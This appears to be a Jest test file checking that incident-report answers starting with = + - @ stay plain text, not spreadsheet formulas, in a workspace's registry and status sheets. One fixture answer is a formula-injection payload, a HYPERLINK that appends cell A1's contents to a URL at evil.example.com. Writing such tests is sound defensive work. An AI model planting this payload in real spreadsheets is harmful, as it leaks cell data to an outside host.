// Reporter text starting with = + - @ through the built bundle, on an emulator that takes the strict reading of plain-text cells: no cell the system writes becomes a formula, registry tabs included, and every value reads back as written.
import { registryRows, startWorkspace, submitAnswers } from './desk';

const ANSWERS = {
  'Your name': '=HYPERLINK("https://evil.example.com/?"&A1,"x")',
  'Your email address': 'rita@example.net',
  'Who was involved?': '+Sam Doe',
  'Where did it happen?': '',
  'What happened?': '-a remark in the chat, then @everyone was pinged',
  'Were there witnesses?': '-Lee Park',
  'Anything else we should know?': "@channel 'quoted' =1+2",
};

describe('reporter text that Sheets would read as a formula', () => {
  test('no status or registry cell becomes a formula, and the registry keeps the text exactly', () => {
    const h = startWorkspace();
    const answers = Object.fromEntries(Object.entries(ANSWERS).filter(([, v]) => v !== ''));
    const { responseId } = submitAnswers(h, answers, {
      reporter: { name: ANSWERS['Your name'], email: 'rita@example.net' },
      reported: [{ name: 'Sam Doe' }],
      witnesses: [{ name: 'Lee Park' }],
    });
    const formulas = h.ws
      .snapshot()
      .sheets.filter((s) => s.spreadsheetId === h.ids.registry || s.spreadsheetId === h.ids.status)
      .flatMap((s) =>
        s.formulas
          .flat()
          .filter(Boolean)
          .map((f) => `${s.name}: ${f}`),
      );
    expect(formulas).toEqual([]);
    const row = registryRows(h, 'Cases').find((c) => c['Response ID'] === responseId)!;
    expect(row['Reporter Name']).toBe(ANSWERS['Your name']);
    expect(row.Phase).toBe('screening');
  });

  test('a value that starts with an apostrophe keeps it', () => {
    const h = startWorkspace();
    const { responseId } = submitAnswers(
      h,
      { 'Your name': "'Quinn' O'Hara", 'What happened?': 'x' },
      { reporter: { name: "'Quinn' O'Hara" } },
    );
    const row = registryRows(h, 'Cases').find((c) => c['Response ID'] === responseId)!;
    expect(row['Reporter Name']).toBe("'Quinn' O'Hara");
  });
});
